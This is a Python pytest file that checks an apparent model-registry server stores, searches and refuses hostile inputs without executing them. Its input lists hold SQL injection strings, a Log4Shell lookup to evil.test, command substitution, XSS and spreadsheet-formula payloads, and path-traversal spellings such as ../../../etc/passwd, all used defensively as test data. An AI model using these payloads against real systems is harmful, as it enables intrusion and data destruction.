"""Texts that are code somewhere: kept as they are, found as they are, and executed nowhere."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from modelyard.server.parts import database_url
from tests.attacks.untouched import Rows, tree
from tests.server.world import Someone, World, a_model_file

CODE = [
    "'; DROP TABLE models; --",
    "' OR '1'='1",
    '" OR 1=1 --',
    "1; DELETE FROM users WHERE 1=1",
    "') UNION SELECT * FROM users --",
    "%",
    "_",
    "%%%",
    "\\%",
    "{0.__class__}",
    "%(name)s %s %n",
    "${jndi:ldap://evil.test/x}",
    "{{7*7}}",
    "$(touch /tmp/x)`id`",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "=cmd|' /C calc'!A0",
    "../../../etc/passwd",
    "\u202egnp.exe",
    "e\u0301" * 20,
    "Z\u0335\u0321" * 10,
    "\U0001f4a5\u200d\u2764\ufe0f",
    "\ufeffbom",
    "ﷺ" * 10,
    "İstanbul ß",
]
LINES = ["a\r\nSet-Cookie: x=y", "a\nb", "a\x00b", "\x1b[31mred", "a\x7fb"]


@pytest.fixture
def rows(world: World) -> Iterator[Rows]:
    rows = Rows(database_url(world.parts.settings))
    yield rows
    rows.close()


def _counts(rows: Rows, *, but: set[str]) -> dict[str, int]:
    return {name: len(found) for name, found in rows.all().items() if name not in but}


def _found(owner: Someone, **query: str) -> list[str]:
    return [model["display_name"] for model in owner.get("/models", **query, per_page="100").json()["model_list"]]


def test_code_in_a_record_is_kept_and_changes_no_other_row(world: World, rows: Rows) -> None:
    model_id = world.owner.register()
    other_id = world.owner.register(path="loras/other.safetensors")
    other = world.owner.get(f"/models/{other_id}").json()
    before = _counts(rows, but={"audit_events", "model_tags"})
    for text in CODE:
        sent = {"display_name": text, "description": text, "license": text, "tags": [text[:64]]}
        assert world.owner.put(f"/models/{model_id}", **sent).status_code == 200, text
        shown = world.owner.get(f"/models/{model_id}").json()
        assert {name: shown[name] for name in sent} == sent
    assert _counts(rows, but={"audit_events", "model_tags"}) == before
    assert world.owner.get(f"/models/{other_id}").json() == other


def test_code_in_a_search_finds_what_has_it_and_nothing_else(world: World, rows: Rows) -> None:
    model_id = world.owner.register(display_name="plain")
    world.owner.register(path="loras/other.safetensors", display_name="bystander")
    before = rows.all()
    for text in CODE:
        assert _found(world.owner, q=text) == [], text
        assert _found(world.owner, tag=text) == [], text
        assert _found(world.owner, model_type=text) == [], text
        assert (
            world.owner.get("/audit-events", action=text, object_id=text, actor_id=text).json()["audit_event_list"]
            == []
        )
        assert world.owner.get("/models", sort=text).status_code == 422
    assert rows.all() == before
    for text in CODE:
        world.owner.put(f"/models/{model_id}", display_name=text)
        assert _found(world.owner, q=text) == [text]


def test_a_line_end_or_a_control_character_is_in_no_name(world: World, rows: Rows) -> None:
    model_id = world.owner.register()
    before = rows.all()
    for text in LINES:
        for name in ("display_name", "license", "model_path", "model_type", "source_url"):
            refused = world.owner.put(f"/models/{model_id}", **{name: text})
            assert (refused.status_code, refused.json()["errors"][0]["field"]) == (422, name), text
        assert world.owner.post("/teams", display_name=text).status_code == 422
        assert world.owner.post("/credentials", kind="integration", display_name=text).status_code == 422
        assert (
            world.owner.post("/invitations", email_address=f"{text}@x.test", invitation_role="viewer").status_code
            == 422
        )
        assert world.owner.presign(b"x", file_name=text).status_code == 422
    assert rows.all() == before


ESCAPES = [
    "..",
    ".",
    "...",
    "a/..",
    "../a",
    "..\\a",
    "a\\..\\b",
    "%2e%2e",
    "%2e%2e%2fa",
    "%252e%252e",
    "..%c0%af",
    "\uff0e\uff0e",
    "‥",
]
ESCAPES += [
    "/etc/passwd",
    "//host/share",
    "\\\\host\\share",
    "C:x",
    "C:\\x",
    "c:/x",
    "file:///x",
    "~",
    "~root",
    "a//b",
    "a/./b",
    "a/",
    "/",
]
ESCAPES += [
    "CON",
    "nul.txt",
    "COM1",
    "lpt9.x",
    "COM¹",
    "a.",
    "a ",
    " a",
    ".a",
    "a:b",
    "a::$DATA",
    "a\u0000b",
    "a\u202eb",
    "a\u2044b",
    "a∕b",
]


def test_no_spelling_of_another_place_is_a_model_path(world: World, rows: Rows) -> None:
    folder: Path = world.parts.settings.data_dir
    content = a_model_file()
    key = world.owner.upload(content)
    before, files = rows.all(), tree(folder)
    for escape in ESCAPES:
        for path in (escape, f"loras/{escape}/x.safetensors", f"models/{escape}", f"loras/{escape}"):
            body = world.owner.new_model(content, "loras/x.safetensors", storage_key=key, model_path=path)
            named = {name: value for name, value in body.items() if name != "storage_key"}
            presigned = world.owner.presign(content, model_path=path)
            for refused in (world.owner.post("/models", **body), presigned):
                assert refused.status_code == 422, (path, refused.text)
                assert refused.json()["errors"][0]["field"] == "model_path", (path, named)
        refused = world.owner.presign(content, model_type=escape)
        assert refused.status_code == 422, escape
    assert rows.all() == before
    assert tree(folder) == files


def test_code_in_a_file_name_is_only_a_name(world: World) -> None:
    folder: Path = world.parts.settings.data_dir
    before = tree(folder)
    for text in CODE:
        ticket = world.owner.presign(b"x" * 9, file_name=text)
        assert ticket.status_code == 200
        team, upload = ticket.json()["storage_key"].split("/")[1:]
        assert (team, len(upload)) == (world.team_id, 36)
    assert tree(folder) == before
